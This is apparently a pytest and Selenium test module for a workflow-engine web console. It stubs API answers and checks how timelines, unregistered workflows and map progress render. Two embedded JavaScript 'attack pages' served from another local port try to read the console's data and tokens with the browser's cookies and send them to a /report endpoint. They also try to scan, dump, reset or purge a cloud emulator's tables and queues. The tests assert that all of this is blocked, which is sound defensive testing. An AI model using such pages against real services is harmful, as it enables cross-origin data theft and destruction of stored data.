CONTRACT_ID = "contract-1"
T0 = 1_796_000_000.0


def _contract_answers() -> dict[str, Any]:
    """A control plane already answering the fields agreed for issue 13: state, pending, events, kinds, items."""
    attempt = {"attempt": 1, "outcome": "completed", "error": None, "retry_delay": None, "duration_seconds": 0.5}
    failed = {
        "attempt": 1,
        "outcome": "failed",
        "retry_delay": 4.0,
        "started_at_epoch": T0 + 1,
        "error": {
            "type": "Declined",
            "message": "card refused",
            "traceback": [{"file": "f.py", "line": 3, "function": "go"}],
        },
    }
    state = {"kind": "running", "reason": "running step charge (attempt 1)", "until": None, "until_epoch": None}
    return {
        f"/executions/{CONTRACT_ID}": {
            "id": CONTRACT_ID,
            "workflow": "fanout",
            "status": "RUNNING",
            "current_step": 1,
            "current_step_name": "charge",
            "attempt": 1,
            "created_at_epoch": T0,
            "updated_at_epoch": T0 + 3,
            "input": {"n": 2},
            "output": {"n": 2},
            "state": state,
            "children": [{"id": f"{CONTRACT_ID}--2-1", "workflow": "child_wf", "status": "RUNNING"}],
        },
        f"/executions/{CONTRACT_ID}/history": {
            "id": CONTRACT_ID,
            "state": state,
            "steps": [
                {
                    "index": 0,
                    "name": "split",
                    "kind": "map",
                    "phase": "forward",
                    "status": "COMPLETED",
                    "attempts": [attempt],
                    "duration_seconds": 2.0,
                    "started_at_epoch": T0,
                    "finished_at_epoch": T0 + 2,
                    "result": {"parts": 2},
                    "items": [
                        {"index": 0, "status": "COMPLETED", "attempts": [attempt], "duration_seconds": 0.5},
                        {"index": 1, "status": "FAILED", "attempts": [failed], "duration_seconds": 1.0},
                    ],
                }
            ],
            "pending": [{"index": 1, "name": "charge", "kind": "step"}, {"index": 2, "name": "ship", "kind": "child"}],
            "events": [
                {"kind": "started", "at_epoch": T0},
                {"kind": "cancelled", "at_epoch": T0 + 3, "compensate": True},
            ],
        },
        "/workflows": {"workflows": [{"name": "fanout", "steps": [{"index": 0, "name": "split", "kind": "map"}]}]},
        **_unregistered_answers(state),
        **_map_answers(),
    }


UNREGISTERED_ID = "contract-unregistered"
NOT_REGISTERED = "workflow 'shop' version 1 is not registered in this deployment (test)"


def _unregistered_answers(state: dict[str, Any]) -> dict[str, Any]:
    """An execution whose workflow the stack does not register (issue #25, friction 2)."""
    missing = {"code": "workflow_not_registered", "workflow": "shop", "workflow_version": 1, "message": NOT_REGISTERED}
    waiting = {"kind": "waiting", "reason": "waiting for callback approval", "until": None, "until_epoch": None}
    ex = {"id": UNREGISTERED_ID, "workflow": "shop", "status": "WAITING", "current_step": 0, "attempt": 1}
    ex |= {"created_at_epoch": T0, "updated_at_epoch": T0, "input": {}, "output": {}, "state": waiting}
    history = {"id": UNREGISTERED_ID, "state": waiting, "steps": [], "pending": [], "events": []}
    return {
        "/executions": {"executions": [{**ex, "unregistered": missing}], "next_cursor": None},
        f"/executions/{UNREGISTERED_ID}": {**ex, "unregistered": missing, "children": []},
        f"/executions/{UNREGISTERED_ID}/history": {**history, "unregistered": missing},
    }


MAP_ID = "map-200"


def _map_answers() -> dict[str, Any]:
    """A map of 200 items, 150 done, 10 failed, 40 running: its first page of 50 item rows."""

    def item(i: int) -> dict[str, Any]:
        if i >= 45:  # not started yet: no times, no duration
            return {"index": i, "status": "PENDING", "attempts": [], "duration_seconds": None, "name": f"sku-{i}"}
        status = "FAILED" if i % 5 == 4 else "COMPLETED"
        return {"index": i, "status": status, "attempts": [], "duration_seconds": 0.2, "name": f"sku-{i}"}

    ex = {
        "id": MAP_ID,
        "workflow": "fanout",
        "status": "RUNNING",
        "current_step": 0,
        "current_step_name": "split",
        "attempt": 1,
        "created_at_epoch": T0,
        "updated_at_epoch": T0 + 30,
        "input": {},
        "output": {},
        "state": {"kind": "running", "reason": "running step split: 160 of 200 items done", "until_epoch": None},
    }
    step = {
        "index": 0,
        "name": "split",
        "kind": "map",
        "phase": "forward",
        "status": "RUNNING",
        "attempts": [],
        "started_at_epoch": T0,
        "items": [item(i) for i in range(50)],
        "items_next": 50,
        "n": 200,
        "ok": 150,
        "failed": 10,
        "decided": None,
    }
    history = {"id": MAP_ID, "steps": [step], "pending": [], "events": [], "read_at_epoch": T0 + 31}
    return {f"/executions/{MAP_ID}": ex, f"/executions/{MAP_ID}/history": history}


@pytest.fixture(scope="module")
def contract_console(stack: LocalStack) -> Iterator[Any]:
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
    from threading import Thread

    from loom.client import ControlPlane, Target
    from loom.console.proxy import Proxy
    from loom.console.server import ConsoleServer

    answers = _contract_answers()

    class Plane(BaseHTTPRequestHandler):
        def log_message(self, *args: Any) -> None:
            return

        def do_GET(self) -> None:
            body = json.dumps(answers.get(self.path.split("?")[0], {"error": {"code": "not_found", "message": "no"}}))
            self.send_response(200 if self.path.split("?")[0] in answers else 404)
            self.send_header("content-type", "application/json")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body.encode())

    plane = ThreadingHTTPServer(("127.0.0.1", 0), Plane)
    Thread(target=plane.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{plane.server_address[1]}"
    client = ControlPlane(Target(url, signed=True, region="us-east-1", credentials=stack.principal.credentials()))
    console = ConsoleServer(Proxy(client), None, port=0, mode="deployed").start()
    yield console
    console.stop()
    plane.shutdown()
    plane.server_close()


def test_the_timeline_draws_the_agreed_api_fields_when_present(browser: Any, contract_console: Any) -> None:
    browser.get(contract_console.url)
    browser.get(f"{contract_console.base_url}/executions/{CONTRACT_ID}")
    wait_until(browser, "the item rows", lambda d: d.find_elements("css selector", "#timeline tr.nested"))
    assert "running step charge (attempt 1)" in text(browser, "summary")
    table = text(browser, "timeline")
    assert "0 split [map]" in table and "item 0" in table and "item 1" in table
    assert "Declined: card refused" in browser.find_element("id", "timeline").get_attribute("textContent")
    assert "cancelled with compensation" in table and "started" in table
    assert browser.find_elements("css selector", "tr[data-state='running']")  # the current step, not yet recorded
    assert browser.find_elements("css selector", "tr[data-state='pending']")  # ship, still to come
    assert f"{CONTRACT_ID}--2-1" in table  # the child, nested
    assert not browser.find_elements("css selector", "[data-nav=local]:not([hidden])")  # deployed: no local page
    shot(browser, "execution-contract")


def test_an_execution_whose_workflow_is_not_registered_says_so_on_its_page(browser: Any, contract_console: Any) -> None:
    browser.get(contract_console.url)
    browser.get(f"{contract_console.base_url}/executions/{UNREGISTERED_ID}")
    found = wait_until(
        browser, "the not-registered line", lambda d: d.find_elements("css selector", "[data-unregistered]")
    )
    assert found[0].get_attribute("data-unregistered") == "workflow_not_registered"
    summary = text(browser, "summary")
    assert "Not registered" in summary and NOT_REGISTERED in summary
    shot(browser, "execution-not-registered")


def test_the_list_marks_an_execution_whose_workflow_is_not_registered(browser: Any, contract_console: Any) -> None:
    browser.get(contract_console.url)
    mark = f"tr[data-id='{UNREGISTERED_ID}'] [data-unregistered]"
    found = wait_until(browser, "the row's mark", lambda d: d.find_elements("css selector", mark))
    assert found[0].get_attribute("data-unregistered") == "workflow_not_registered"
    assert found[0].text == "not registered" and found[0].get_attribute("title") == NOT_REGISTERED


def test_a_map_of_200_items_shows_its_progress_before_its_rows(browser: Any, contract_console: Any) -> None:
    browser.get(contract_console.url)
    browser.get(f"{contract_console.base_url}/executions/{MAP_ID}")

    # It runs, so the page redraws every 2 s: each look reads the rows afresh (a redraw retries).
    def look(d: Any) -> Any:  # in one script: the page cannot redraw halfway through the reading
        return d.execute_script(
            """const rows = [...document.querySelectorAll('#timeline tbody tr')];
            const at = rows.findIndex((r) => r.classList.contains('progress-row'));
            if (at < 1) return null;
            const track = rows[at].querySelector('.progress').getBoundingClientRect().width;
            const widths = {};
            for (const seg of rows[at].querySelectorAll('.seg')) {
              widths[seg.classList[1]] = seg.getBoundingClientRect().width / track;
            }
            return [rows[at].innerText, rows[at - 1].dataset.step, rows[at + 1].innerText, widths];"""
        )

    counts, before, after, widths = wait_until(browser, "the progress row", look)
    assert "150 succeeded, 10 failed of 200; 40 running or to come" in counts
    assert before == "0" and after.startswith("0.0 sku-0"), "between the map's row and its items"
    unstarted = browser.execute_script(
        "return [...document.querySelectorAll('#timeline tr.nested[data-state=pending]')]"
        ".map((r) => r.querySelectorAll('.fill').length)"
    )
    assert unstarted == [0] * 5, "an item that never started draws no bar"
    assert widths == pytest.approx({"completed": 0.75, "failed": 0.05, "pending": 0.2}, abs=0.01)
    doc_shot(browser, "execution-map")


# ---------------------------------------------------------------- a page on another local port


class Attacker:
    """A web server on another 127.0.0.1 port: what the browser sends it, and what its page learns."""

    def __init__(self, html: str) -> None:
        self.seen: list[str] = []  # every request line, header and body it received
        self.reports: list[dict[str, Any]] = []
        page = html.encode()
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                return

            def _record(self) -> bytes:
                length = int(self.headers.get("content-length") or 0)
                body = self.rfile.read(length) if length else b""
                attacker.seen.append(f"{self.requestline}\n{self.headers}\n{body.decode(errors='replace')}")
                return body

            def do_GET(self) -> None:
                self._record()
                self.send_response(200)
                self.send_header("content-type", "text/html; charset=utf-8")
                self.send_header("content-length", str(len(page)))
                self.end_headers()
                self.wfile.write(page)

            def do_POST(self) -> None:
                attacker.reports.append(json.loads(self._record() or b"{}"))
                self.send_response(204)
                self.end_headers()

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


# Everything a page on another port can try: read the console's data with the browser's cookies,
# send a data call with a guessed header, read its own cookies and storage; then report.
ATTACK_PAGE = """<!doctype html><meta charset=utf-8><title>elsewhere</title><script>
(async () => {
  const c = "{{console}}";
  const out = {cookie: document.cookie, storage: JSON.stringify(sessionStorage), local: JSON.stringify(localStorage)};
  async function attempt(name, url, init) {
    try {
      const r = await fetch(url, init);
      out[name] = r.type + ":" + r.status + ":" + (await r.text()).slice(0, 200);
    } catch (e) { out[name] = "blocked:" + e.name; }
  }
  await attempt("with_cookies", c + "/api/executions", {credentials: "include"});
  await attempt("no_cors", c + "/api/executions", {credentials: "include", mode: "no-cors"});
  await attempt("info", c + "/console.json", {credentials: "include"});
  await attempt("header", c + "/api/executions", {headers: {"x-loom-console-token": "guess"}});
  await fetch("/report", {method: "POST", body: JSON.stringify(out)});
})();
</script>"""


def test_a_page_on_another_local_port_receives_nothing_of_the_console(browser: Any, stack: LocalStack) -> None:
    token = stack.console.gate.token
    browser.get(stack.console.url)  # a live session in this browser, as a user has one
    wait_until(browser, "the list", lambda d: d.find_elements("css selector", "#executions tbody tr"))
    assert token not in browser.current_url  # the fragment left the address bar
    stored = browser.execute_script("return sessionStorage.getItem('loom-console-token')")
    assert stored == token and browser.execute_script("return document.cookie") == ""
    attacker = Attacker(ATTACK_PAGE.replace("{{console}}", stack.console.base_url))
    try:
        browser.get(attacker.url + "/")
        wait_for("the page's report", lambda: attacker.reports, timeout=30)
    finally:
        attacker.stop()
    (report,) = attacker.reports
    received = "\n".join(attacker.seen) + json.dumps(report)
    assert token not in received, "the console's token reached a server on another port"
    headers = [line.lower() for request in attacker.seen for line in request.splitlines()]
    assert not [h for h in headers if h.startswith("cookie:")], "the browser sent the console's cookie elsewhere"
    assert report["cookie"] == "" and report["storage"] == "{}"
    for name in ("with_cookies", "info", "header"):
        assert report[name].startswith("blocked:"), (name, report[name])  # CORS: no answer to read
    assert report["no_cors"].startswith("opaque:0:") and report["no_cors"].endswith(":")  # nothing readable


# The emulator from a foreign page: read a Scan (moto reflected the Origin, so this worked),
# reset everything with a "simple" POST (no preflight: the side effect happens even unread).
EMULATOR_PAGE = """<!doctype html><meta charset=utf-8><title>elsewhere</title><script>
(async () => {
  const e = "{{emulator}}", out = {};
  async function attempt(name, url, init) {
    try {
      const r = await fetch(url, init);
      out[name] = r.type + ":" + r.status + ":" + (await r.text()).slice(0, 300);
    } catch (err) { out[name] = "blocked:" + err.name; }
  }
  const scan = {"x-amz-target": "DynamoDB_20120810.Scan", "content-type": "application/x-amz-json-1.0"};
  await attempt("scan", e + "/", {method: "POST", headers: scan, body: JSON.stringify({TableName: "{{table}}"})});
  await attempt("reset", e + "/moto-api/reset", {method: "POST", mode: "no-cors"});
  await attempt("dump", e + "/moto-api/data.json", {});
  await attempt("queue", e + "/", {method: "POST", mode: "no-cors",
    headers: {"content-type": "application/x-www-form-urlencoded"}, body: "Action=PurgeQueue&QueueUrl={{queue}}"});
  await fetch("/report", {method: "POST", body: JSON.stringify(out)});
})();
</script>"""


def test_a_page_on_another_origin_can_neither_read_nor_reset_the_emulator(browser: Any, stack: LocalStack) -> None:
    ddb = stack.client("dynamodb")
    ex_id = start(stack.api, "order_fulfillment", {"order_id": "page-1", "amount": 1})
    wait_status(stack.api, ex_id, "SLEEPING")
    before = ddb.scan(TableName=stack.refs["Table"])["Count"]
    assert stack.endpoint_url is not None
    page = EMULATOR_PAGE.replace("{{emulator}}", stack.endpoint_url).replace("{{table}}", stack.refs["Table"])
    attacker = Attacker(page.replace("{{queue}}", stack.refs["StepQueue"]))
    try:
        browser.get(attacker.url + "/")
        wait_for("the page's report", lambda: attacker.reports, timeout=30)
    finally:
        attacker.stop()
    (report,) = attacker.reports
    assert report["scan"].startswith("blocked:"), report["scan"]  # no CORS answer: nothing read
    assert report["dump"].startswith("blocked:"), report["dump"]
    assert ex_id not in json.dumps(report)
    # The simple POSTs went out (no preflight) and were refused: nothing was reset or purged.
    assert ddb.scan(TableName=stack.refs["Table"])["Count"] >= before > 0
    assert status_of(stack.api, ex_id)["status"] in ("SLEEPING", "COMPLETED")


def test_a_list_with_stamps_from_another_day_still_fits_the_window(browser: Any, stack: LocalStack) -> None:
    """A start on another day than the viewer's shows its date, and the list breaks such a stamp
    between its date and its time rather than scroll sideways. (The list test above failed in CI at
    22:10 UTC: the module's moved clock had carried its stamps past midnight, and a dated column
    pushed a full list past the window.) A narrower window stands for a fuller list: with each
    stamp kept on one line, these two rows alone are wider than it. Last in the module: it moves the functions'
    clock a day."""
    assert stack.console.kit is not None
    stack.console.kit.advance({"duration": "1d"})
    ended = start(stack.api, "order_saga", {"order_id": "dated-1", "amount": 9})
    waiting = start(stack.api, "order_approval", {"order_id": "dated-2"})  # the widest step column
    wait_status(stack.api, ended, "COMPENSATED")
    wait_status(stack.api, waiting, "WAITING")
    browser.set_window_size(NARROW, 900)
    try:
        open_page(browser, stack, "/")
        wait_until(browser, "the rows", lambda d: d.find_elements("css selector", f"tr[data-id='{waiting}']"))
        done = cells(browser, f"tr[data-id='{ended}']")
        assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", done["started"]), done
        # These two rows alone (the module's others differ by run), read in the script that keeps
        # them, so that no redraw comes between.
        alone = browser.execute_script(
            "const keep = new Set(arguments[0]);"
            "for (const tr of document.querySelectorAll('#executions tbody tr'))"
            " if (!keep.has(tr.dataset.id)) tr.remove();"
            "return document.documentElement.scrollWidth <= window.innerWidth;",
            [ended, waiting],
        )
        assert alone, "the list is wider than the window"
    finally:
        browser.set_window_size(WIDTH, 900)
